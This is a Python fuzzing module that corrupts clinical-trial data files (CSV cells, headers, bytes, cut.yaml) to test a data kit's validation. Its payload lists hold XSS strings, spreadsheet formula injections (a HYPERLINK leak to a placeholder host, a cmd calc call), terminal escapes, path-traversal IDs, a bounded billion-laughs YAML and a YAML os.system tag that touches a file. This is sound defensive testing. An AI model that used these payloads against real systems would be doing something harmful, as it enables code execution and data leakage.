"""The mutations that damage what is inside a cut's files: CSV cells, headers and rows, raw bytes
and encodings, ``cut.yaml``, and degenerate but possibly valid data.

Every mutation is a function ``m_<family>(case, rng) -> str`` that changes the files of
``case.cut`` in place, drawing only from ``rng`` (so a case is rebuilt from its seed alone), and
returns a one-line description for the case label. :mod:`fuzzing.cases` adds the mutations of
the folder itself (files, symlinks, workbooks) and draws them into a case.
"""
from __future__ import annotations

import csv
import io
import json
import random
import re
from dataclasses import dataclass, field
from pathlib import Path

__all__ = ["BIG", "CELL_VALUES", "CUTOFFS", "Case", "HOSTILE_IDS", "TABLES", "YAML_SCALARS",
           "csv_rows", "m_bytes", "m_cell", "m_degenerate", "m_header_cell", "m_rows", "m_yaml",
           "write_rows"]

TABLES = ("subjects", "infusions", "vitals", "labs", "blood_gases", "pcr", "imaging", "adverse_events")

# ----------------------------------------------------------------------------------- payloads
BIG = 128 * 1024 + 1
CELL_VALUES = [
    "", " ", "1e30", "-1e30", "1e308", "1e309", "-1", "-0", "-999999999999", "99999999999999999999999",
    "nan", "NaN", "inf", "-inf", "0x1F", "1_000", "1,5", "١٢", "１２", "12.5.3", "+5",
    "0001-01-01", "9999-12-31", "0000-00-00", "2020-02-30", "2020-13-01", "20200725", "2020-7-5",
    "25/07/2020", "07/25/2020", "44037", "2020-07-25T25:61", "2020-07-25T14:30+03:00",
    "2020-07-25 14:30:00.123456", "2020-07-25T14:30Z", "0001-01-01T00:00", "July 25, 2020",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</table><h1>x</h1>",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=1+1", "+1+1", "@SUM(A1:A9)",
    "-2+3", "=cmd|' /C calc'!A0", "\x00", "a\x07b\x08c", "\x1b[31mred\x1b[0m", "\x1b]0;pwned\x07",
    "\x1b[2J\x1b[H", "e\u0301", "\U0001d7d8", "\u202eevil", "\ufeffS01", "a\u2028b", "zero\u200bwidth",
    "\U0001f9a0", "İstanbul", "São João", "a\nb", 'say "hi"', "a,b", "'", "\\", "%s%n", "{0}", "${HOME}",
    "S01 ", " S01", "s01", "NA", "-", ".", "null", "None", "TRUE", "Yes", "sim", "não", "2",
]
HOSTILE_IDS = ["../../x", "../escaped", ".", "..", "*", "cut-*", "?", "[a-z]", "a" * 300, "/tmp/abs",
               "a/b", "a\\b", "~", "-rf", " lead", "trail ", "CON", "cut\u202e", "\x1b[31mcut", "",
               "cut id", "$HOME", "cut\nnext", ".hidden", "reports", "ação"]
YAML_SCALARS = ["yes", "no", "on", "off", "null", "~", "123", "1.5", "0x10", "[a, b]", "{a: b}", "''",
                "!!binary aGVsbG8=", "!!python/object/apply:os.getcwd []", "2020-10-30", "&x a", "*x"]
CUTOFFS = ["2020-02-30", "0001-01-01", "9999-12-31", "2000-01-01", "1999-12-31", "20201030",
           "2020-10-30T00:00:00Z", "30/10/2020", "'2020-10-30'", "2020-10-30 extra", "", "tomorrow"]


def _show(value) -> str:
    """A payload as short printable text for the case description."""
    if isinstance(value, (str, bytes)) and len(value) > 60:
        return f"{value[:12]!r}...({len(value)} long)"
    return repr(value)


# ------------------------------------------------------------------------------- case folder
@dataclass
class Case:
    """One fuzz case: the copied cut under ``root`` and the descriptions of its mutations."""

    seed: int
    number: int
    root: Path  # holds cuts/<folder>/ (the cut), outside/ (symlink targets), notebooks/
    cut: Path
    base: str
    mutations: list[str] = field(default_factory=list)

    @property
    def label(self) -> str:
        return f"seed={self.seed} case={self.number} base={self.base} mutations={self.mutations}"


def csv_rows(path: Path) -> list[list[str]]:
    """The rows of a CSV file, read leniently (undecodable bytes replaced, cells of any length)."""
    old = csv.field_size_limit(2**30)  # our own long cells; restored so the kit sees the default
    try:
        return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8", "replace"), newline="")))
    finally:
        csv.field_size_limit(old)


def write_rows(path: Path, rows: list[list[str]]) -> None:
    """Write ``rows`` as CSV (UTF-8, ``\\n`` line ends; lone surrogates kept as they are)."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode("utf-8", "surrogatepass"))


def _tables_with_rows(case: Case) -> list[Path]:
    return [p for p in sorted(case.cut.glob("*.csv")) if len(csv_rows(p)) > 1]


def _pick_column(rng: random.Random, rows: list[list[str]], value: str) -> int:
    """A column for ``value``: mostly one of the matching kind (date, number), else any."""
    header = rows[0]
    if rng.random() < 0.7:
        if re.match(r"\d{4}-|\d+/|July|\d{8}$", value):
            fits = [i for i, h in enumerate(header) if h.endswith(("_on", "_at"))]
        elif re.match(r"[-+]?(\d|inf|nan|NaN|0x)", value):
            fits = [i for i, h in enumerate(header)
                    if any(re.fullmatch(r"[-\d.e]+", r[i]) for r in rows[1:] if i < len(r))]
        else:
            fits = [i for i, h in enumerate(header) if h in ("arm", "term", "test")]
        if fits:
            return rng.choice(fits)
    return rng.randrange(len(header))


# --------------------------------------------------------------------------------- mutations
def m_cell(case: Case, rng: random.Random) -> str:
    tables = _tables_with_rows(case)
    if not tables:
        return "cell: no table with rows"
    path = rng.choice(tables)
    rows = csv_rows(path)
    value = rng.choice(CELL_VALUES + ["long"] * 3)
    if value == "long":
        value = rng.choice(["A", "é", "<b>", "x,"]) * (BIG // 2 + rng.randrange(BIG))
    r = rng.randrange(1, len(rows))
    c = _pick_column(rng, rows, value)
    if c < len(rows[r]):
        rows[r][c] = value
    write_rows(path, rows)
    return f"cell: {path.name} row {r + 1} column {rows[0][c]!r} = {_show(value)}"


def m_header_cell(case: Case, rng: random.Random) -> str:
    path = rng.choice(sorted(case.cut.glob("*.csv")))
    rows = csv_rows(path)
    c = rng.randrange(len(rows[0]))
    value = rng.choice(["", " ", rows[0][c].upper(), rows[0][c] + " ", rows[0][c][:-1], "cpf",
                        "patient_name", "data_nascimento", "<script>x</script>", "=1+1", "\x1b[1m",
                        "unnamed: 3", rows[0][(c + 1) % len(rows[0])]])
    rows[0][c] = value
    write_rows(path, rows)
    return f"header: {path.name} column {c + 1} renamed to {_show(value)}"


def m_rows(case: Case, rng: random.Random) -> str:
    tables = _tables_with_rows(case)
    path = rng.choice(tables or sorted(case.cut.glob("*.csv")))
    rows = csv_rows(path)
    kind = rng.choice(["duplicate", "delete", "delete-all", "swap-columns", "swap-header-only",
                       "delete-header", "unlabelled-column", "blank-first-line", "shuffle",
                       "delete-column", "short-row", "long-row", "blank-rows"])
    header, body, prefix = rows[0], rows[1:], []
    if kind == "duplicate" and body:
        body.insert(rng.randrange(len(body) + 1), list(rng.choice(body)))
    elif kind == "delete" and body:
        for _ in range(rng.randint(1, max(1, len(body) // 2))):
            body.pop(rng.randrange(len(body)))
    elif kind == "delete-all":
        body = []
    elif kind in ("swap-columns", "swap-header-only") and len(header) > 1:
        a, b = rng.sample(range(len(header)), 2)
        for row in [header] + (body if kind == "swap-columns" else []):
            if max(a, b) < len(row):
                row[a], row[b] = row[b], row[a]
    elif kind == "delete-header":
        header = None
    elif kind == "unlabelled-column":
        header = header + [""]
        body = [r + [rng.choice(["x", "", "1", "João"])] for r in body]
    elif kind == "blank-first-line":
        prefix = [[]]
    elif kind == "shuffle":
        rng.shuffle(body)
    elif kind == "delete-column":
        c = rng.randrange(len(header))
        header, body = header[:c] + header[c + 1:], [r[:c] + r[c + 1:] for r in body]
    elif kind == "short-row" and body:
        body[rng.randrange(len(body))].pop()
    elif kind == "long-row" and body:
        body[rng.randrange(len(body))].append("extra")
    elif kind == "blank-rows":
        body = body + [[""] * len(header)] * rng.randint(1, 5) + body[:1]
    write_rows(path, prefix + ([header] if header is not None else []) + body)
    return f"rows: {path.name} {kind}"


MAY_BE_EMPTY = {"vitals": ["resp_rate_per_min", "spo2_pct", "on_oxygen", "temp_c", "sbp_mmhg",
                           "heart_rate_bpm", "consciousness"],
                "imaging": ["severity_score"], "adverse_events": ["resolved_on", "related"],
                "subjects": ["discharged_on", "arm"]}


def _edit_column(path: Path, column: str, change) -> None:
    rows = csv_rows(path)
    if column in rows[0]:
        c = rows[0].index(column)
        for r in rows[1:]:
            if c < len(r):
                r[c] = change(r[c], r)
        write_rows(path, rows)


def m_degenerate(case: Case, rng: random.Random) -> str:
    """Edge cases that may well be valid: they reach the derivations and estimators."""
    kind = rng.choice(["empty-table", "blank-column", "one-subject", "early-cutoff", "all-dead-day-0",
                       "all-positive", "crp-synonym", "same-time"])
    what = ""
    if kind == "empty-table":
        what = rng.choice([t for t in TABLES if t != "subjects"])
        path = case.cut / f"{what}.csv"
        write_rows(path, csv_rows(path)[:1])
    elif kind == "blank-column":
        table = rng.choice(sorted(MAY_BE_EMPTY))
        what = f"{table}.{rng.choice(MAY_BE_EMPTY[table])}"
        _edit_column(case.cut / f"{table}.csv", what.split(".")[1], lambda v, r: "")
    elif kind == "one-subject":
        subjects = [r[0] for r in csv_rows(case.cut / "subjects.csv")[1:]]
        what = rng.choice(subjects)
        for path in sorted(case.cut.glob("*.csv")):
            rows = csv_rows(path)
            write_rows(path, rows[:1] + [r for r in rows[1:] if r and r[0] == what])
    elif kind == "early-cutoff":
        table, column = rng.choice([("subjects", "screened_on"), ("infusions", "infused_on")])
        dates = sorted(r[csv_rows(case.cut / f"{table}.csv")[0].index(column)]
                       for r in csv_rows(case.cut / f"{table}.csv")[1:])
        if dates:
            what = rng.choice([dates[0], "2000-01-01"])
            meta = case.cut / "cut.yaml"
            meta.write_text(_yaml_set(meta.read_text(), "cutoff_date", what))
    elif kind == "all-dead-day-0":
        rows = csv_rows(case.cut / "infusions.csv")
        infused = {r[0]: r[1] for r in rows[1:]}
        for column, value in (("died_on", "infused"), ("last_known_alive_on", "infused"),
                              ("discharged_on", "")):
            _edit_column(case.cut / "subjects.csv", column,
                         lambda v, r, value=value: (infused.get(r[0], v) if value else "")
                         if r[0] in infused else v)
    elif kind == "all-positive":
        _edit_column(case.cut / "pcr.csv", "result", lambda v, r: "positive")
    elif kind == "crp-synonym":
        what = rng.choice(["PCR", "hs-CRP", "crp", "proteína C reativa", "C-reactive protein", "CRP "])
        _edit_column(case.cut / "labs.csv", "test",
                     lambda v, r: what if v == "CRP" and rng.random() < 0.5 else v)
    elif kind == "same-time":
        _edit_column(case.cut / "vitals.csv", "measured_at", lambda v, r: v[:10] + "T08:00")
    return f"degenerate: {kind} {what}".rstrip()


def m_bytes(case: Case, rng: random.Random) -> str:
    path = rng.choice(sorted(case.cut.glob("*.csv")) + [case.cut / "cut.yaml"] * 2)
    if not path.exists():
        return "bytes: nothing to change"
    data = bytearray(path.read_bytes())
    kind = rng.choice(["flip", "insert", "delete", "truncate", "utf-16", "utf-16-le", "latin-1",
                       "cr-only", "crlf", "mixed-eol", "bom", "double-bom", "nul", "empty"])
    at = rng.randrange(len(data) + 1)
    if kind == "flip" and data:
        for _ in range(rng.randint(1, 4)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    elif kind == "insert":
        data[at:at] = rng.choice([b"\x00", b"\xff\xfe", b"\r", b"\n", b",", b'"', b"\xe9", b"\xc3",
                                  bytes(rng.randrange(256) for _ in range(8))])
    elif kind == "delete":
        del data[at: at + rng.randint(1, 40)]
    elif kind == "truncate":
        del data[at:]
    elif kind in ("utf-16", "utf-16-le", "latin-1"):
        text = data.decode("utf-8", "replace").replace("Fever", "Febre ção", 1)
        if kind == "latin-1":
            text = text.replace(",", ",São ", 1)
        data = bytearray(text.encode(kind, "replace"))
    elif kind == "cr-only":
        data = bytearray(bytes(data).replace(b"\r\n", b"\n").replace(b"\n", b"\r"))
    elif kind == "crlf":
        data = bytearray(bytes(data).replace(b"\n", b"\r\n"))
    elif kind == "mixed-eol":
        lines = bytes(data).split(b"\n")
        data = bytearray(b"".join(line + rng.choice([b"\n", b"\r\n", b"\r"]) for line in lines))
    elif kind == "bom":
        data[0:0] = b"\xef\xbb\xbf"
    elif kind == "double-bom":
        data[0:0] = b"\xef\xbb\xbf\xef\xbb\xbf"
    elif kind == "nul":
        data = bytearray(bytes(data).replace(b",", b"\x00,", 3))
    elif kind == "empty":
        data = bytearray()
    path.write_bytes(bytes(data))
    return f"bytes: {path.name} {kind} at {at}"


def _yaml_set(text: str, key: str, raw: str | None) -> str:
    lines = [ln for ln in text.splitlines() if not ln.startswith(f"{key}:")]
    if raw is not None:
        lines.insert(0, f"{key}: {raw}")
    return "\n".join(lines) + "\n"


def m_yaml(case: Case, rng: random.Random) -> str:
    path = case.cut / "cut.yaml"
    text = path.read_text(encoding="utf-8", errors="replace") if path.exists() else ""
    kind = rng.choice(["hostile-cut_id", "hostile-cut_id", "study_id-scalar", "cutoff", "duplicate-key",
                       "missing-key", "billion-laughs", "syntax", "unknown-key", "description",
                       "unsafe-tag", "cut_id-scalar"])
    if kind == "hostile-cut_id":
        value = rng.choice(HOSTILE_IDS)
        text, what = _yaml_set(text, "cut_id", json.dumps(value)), _show(value)
    elif kind in ("study_id-scalar", "cut_id-scalar"):
        key, what = kind.split("-")[0], rng.choice(YAML_SCALARS)
        text = _yaml_set(text, key, what)
    elif kind == "cutoff":
        what = rng.choice(CUTOFFS)
        text = _yaml_set(text, "cutoff_date", what)
    elif kind == "duplicate-key":
        key = rng.choice(["cut_id", "study_id", "cutoff_date", "description"])
        what = key
        text += f"{key}: {rng.choice(['other-cut', '2019-01-01', 'X'])}\n"
    elif kind == "missing-key":
        what = rng.choice(["cut_id", "study_id", "cutoff_date", "description"])
        text = _yaml_set(text, what, None)
    elif kind == "billion-laughs":  # small enough to be safe: at most 8**5 = 32,768 leaves
        width, depth = rng.randint(3, 8), rng.randint(2, 5)
        levels = [f"&a0 [{', '.join(['lol'] * width)}]"]
        levels += [f"&a{i} [{', '.join([f'*a{i - 1}'] * width)}]" for i in range(1, depth + 1)]
        key = rng.choice(["description", "study_id", "cut_id"])
        text = _yaml_set(text, key, f"[{', '.join(levels)}]")
        what = f"{key} {width}**{depth}"
    elif kind == "syntax":
        what = rng.choice(["tab", "unclosed", "list", "scalar", "empty", "comments", "two-docs", "merge"])
        text = {"tab": text.replace(": ", ":\t", 1) + "\tbad: indent\n", "unclosed": text + 'x: "open\n',
                "list": "- " + text.replace("\n", "\n- "), "scalar": "just text\n", "empty": "",
                "comments": "# nothing\n", "two-docs": text + "---\n" + text,
                "merge": "base: &b {cut_id: merged}\n<<: *b\n" + text}[what]
    elif kind == "unknown-key":
        what = rng.choice(["synthetic: true", "synthetic: maybe", "Cut_ID: x", "site: HCPA",
                           "patient_name: João"])
        text += what + "\n"
    elif kind == "description":
        value = rng.choice(["<script>alert(1)</script>", "=HYPERLINK(\"x\")", "\x1b[2J", "real patient data",
                            "é" * BIG, "", "null"])
        text, what = _yaml_set(text, "description", json.dumps(value)), _show(value)
    else:  # unsafe-tag: a safe loader refuses it; an unsafe one would leave a file behind
        what = "python/object/apply"
        text = _yaml_set(text, "cut_id",
                         f"!!python/object/apply:os.system [\"touch {case.root / 'PWNED'}\"]")
    path.write_text(text, encoding="utf-8")
    return f"yaml: {kind} {what}"
